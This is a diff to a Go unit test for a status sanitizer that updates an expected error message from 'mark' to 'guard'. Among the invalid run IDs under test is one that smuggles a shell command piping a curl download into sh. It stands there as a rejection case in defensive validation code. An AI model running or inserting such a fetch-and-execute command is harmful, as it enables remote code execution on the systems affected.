@@ -22,7 +22,7 @@ func TestSanitized(t *testing.T) {
 		t.Errorf("%d units", len(st.FailedUnits))
 	}
 	for _, id := range []string{"x; curl http://a | sh", "", "-x", strings.Repeat("r", 65)} {
-		if st := sanitized(api.Status{Guard: &api.Guard{Run: id}}); st.Guard != nil || len(st.Problems) != 1 || !strings.Contains(st.Problems[0], "its mark names no run") {
+		if st := sanitized(api.Status{Guard: &api.Guard{Run: id}}); st.Guard != nil || len(st.Problems) != 1 || !strings.Contains(st.Problems[0], "its guard names no run") {
 			t.Errorf("%q: %+v", id, st)
 		}
 	}
